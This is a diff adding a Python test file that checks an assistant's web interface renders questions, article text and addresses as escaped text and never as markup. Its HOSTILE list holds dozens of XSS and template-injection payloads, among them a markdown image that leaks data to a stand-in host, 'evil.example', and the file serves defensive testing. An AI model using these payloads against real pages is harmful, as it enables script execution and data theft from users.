@@ -1,0 +1,185 @@
+"""Whatever stands in a question, an article or an address is shown as text: nothing of it becomes markup."""
+
+from __future__ import annotations
+
+from datetime import date
+
+import pytest
+from lxml import html
+
+from assistant.extractive import NO_ANSWER
+from assistant.models import Answer, Citation, Conflict, Outcome, Sentence, Side
+from corpus.models import Article, Kind, Launch
+from ui.render import Exchange, State, certainty, conversation, copy_text
+from ui.render_library import article_page, articles_table
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=data:text/html,x>",
+    "<embed src=data:text/html,x>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<form action=https://evil.example><input name=a>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<audio src=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<style>*{display:none}</style>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href=https://evil.example/>",
+    "<template><img src=x onerror=alert(1)></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<textarea></textarea><img src=x onerror=alert(1)>",
+    "<title></title><img src=x onerror=alert(1)>",
+    "<xmp></xmp><img src=x onerror=alert(1)>",
+    "<plaintext>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<?xml version='1.0'?><x onclick=alert(1)>",
+    '"><img src=x onerror=alert(1)>',
+    "'><img src=x onerror=alert(1)>",
+    '" onmouseover="alert(1)',
+    "' onmouseover='alert(1)",
+    "` onmouseover=`alert(1)",
+    "&lt;img src=x onerror=alert(1)&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "<div",
+    "</div></div></div></main>",
+    "<b>unclosed",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)}",
+    "<%= 7*7 %>",
+    "{% raw %}",
+    "#{7*7}",
+    "[click](javascript:alert(1))",
+    "![leak](https://evil.example/?q=secret)",
+    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
+    "<https://evil.example>",
+    "$$\\href{javascript:alert(1)}{x}$$",
+    "\\(\\unicode{x3c}script\\unicode{x3e}\\)",
+    "\u202eevil\u202c",
+    "\u2066hidden\u2069",
+    "a\u200bb\u200cc\u200dd\ufeff",
+    "\x00\x08\x0b null and control",
+    "expression(alert(1)); background:url(javascript:alert(1))",
+    "x" * 1_000_000,
+    "javascript:alert(1)",
+]
+SAFE_TAGS = set(
+    "div section article header footer main aside nav p span ol ul li dl dt dd h1 h2 h3 h4 button a mark blockquote cite "
+    "time small strong em b i svg path circle table thead tbody tr th td caption details summary label input br hr figure "
+    "figcaption output dialog q bdi sup".split()
+)
+
+
+def citation(**changed: object) -> Citation:
+    fields: dict[str, object] = {
+        "marker": 1, "article_id": "a", "title": "A title", "publisher": "The Daily", "url": "https://example.org/a",
+        "published": date(2026, 4, 8), "quote": "It costs 12 euros.", "start": 0, "end": 18, "digest": "d",
+        "kind": "reporting",
+    }  # fmt: skip
+    return Citation(**(fields | changed))  # type: ignore[arg-type]
+
+
+def an_answer(citations: list[Citation], **changed: object) -> Answer:
+    sentences = tuple(Sentence(f"“{c.quote}” [{c.marker}]", (c.marker,), 1.0) for c in citations)
+    fields: dict[str, object] = {
+        "question": "What does it cost?", "standalone_question": "What does it cost?",
+        "text": " ".join(s.text for s in sentences), "outcome": Outcome.ANSWERED, "confidence": 0.9,
+        "sentences": sentences, "citations": tuple(citations), "conflicts": (), "as_of": None, "hits": (),
+        "model": "quotes", "generation": 1, "timings": {}, "notes": (), "witnesses": 1,
+    }  # fmt: skip
+    return Answer(**(fields | changed))  # type: ignore[arg-type]
+
+
+def shown(answer: Answer, question: str = "What does it cost?") -> str:
+    exchange = Exchange(question).answered(answer)
+    return conversation([exchange], Launch("The Thing"))
+
+
+def check_harmless(markup: str) -> None:
+    tree = html.fragment_fromstring(markup, create_parent="div")
+    for element in tree.iter():
+        assert isinstance(element.tag, str), "a comment or an instruction"
+        assert element.tag in SAFE_TAGS, element.tag
+        for name, value in element.attrib.items():
+            assert not name.lower().startswith("on"), name
+            assert name not in ("style", "srcdoc", "formaction", "action"), name
+            if name in ("href", "src"):
+                assert value.startswith(("https://", "http://", "#", "/")), value
+
+
+@pytest.mark.parametrize("text", HOSTILE, ids=lambda t: t[:24])
+def test_hostile_text_stays_text(text: str) -> None:
+    hostile = citation(title=text, publisher=text, quote=text, url=text, end=len(text))
+    differing = Conflict(text, (Side(text, (1,)), Side("other", (2,))))
+    markup = shown(an_answer([hostile, citation(marker=2)], conflicts=(differing,), notes=(text,)), text)
+    check_harmless(markup)
+    article = Article("a", text, text, None, None, None, Kind.REPORTING, f"{text}\n\nIt costs 12 euros.")
+    check_harmless(article_page(article, [(1, 0, len(text))], focus=1))
+    check_harmless(articles_table([article], {"a": 1}))
+    failed = Exchange(text, state=State.FAILED, problem=text)
+    check_harmless(conversation([failed], Launch(text, tagline=text, example_questions=(text,))))
+
+
+def test_the_reader_marks_exactly_the_quote() -> None:
+    text = "Prices first.\n\nIt costs 12 euros. It weighs 3 kilograms.\n\nAll sold."
+    start = text.index("It costs")
+    article = Article("a", "T", "P", None, None, None, Kind.REPORTING, text)
+    tree = html.fragment_fromstring(
+        article_page(article, [(4, start, start + 18)], focus=4), create_parent="div"
+    )
+    (mark,) = tree.xpath("//mark")
+    assert text[start : start + 18] in mark.text_content()
+    assert "It weighs" not in mark.text_content()
+    assert "It weighs 3 kilograms." in tree.text_content()
+
+
+def test_every_marker_has_its_card() -> None:
+    answer = an_answer([citation(), citation(marker=2, article_id="b", title="B", digest="e")])
+    tree = html.fragment_fromstring(shown(answer), create_parent="div")
+    markers = {m.get("data-marker") for m in tree.xpath('//*[contains(@class,"text")]//button[@data-marker]')}
+    cards = {m for card in tree.xpath("//*[@data-markers]") for m in card.get("data-markers").split()}
+    assert markers == cards == {"1", "2"}
+
+
+def test_copying_keeps_markers_and_sources() -> None:
+    copied = copy_text(an_answer([citation()]))
+    assert "“It costs 12 euros.” [1]" in copied
+    assert "The Daily" in copied
+    assert "https://example.org/a" in copied
+
+
+def test_silence_is_shown_as_silence() -> None:
+    silent = an_answer(
+        [],
+        outcome=Outcome.NO_EVIDENCE,
+        text=NO_ANSWER,
+        sentences=(Sentence(NO_ANSWER, (), 1.0),),
+        witnesses=0,
+    )
+    tree = html.fragment_fromstring(shown(silent), create_parent="div")
+    assert NO_ANSWER in tree.text_content()
+    assert not tree.xpath("//*[@data-markers]")
+
+
+def test_certainty_is_told_in_words() -> None:
+    one = certainty(an_answer([citation()]))
+    two = certainty(
+        an_answer([citation(), citation(marker=2, article_id="b", publisher="B", digest="e")], witnesses=2)
+    )
+    assert one
+    assert one != two
+    assert not any(c == "%" for c in one + two)
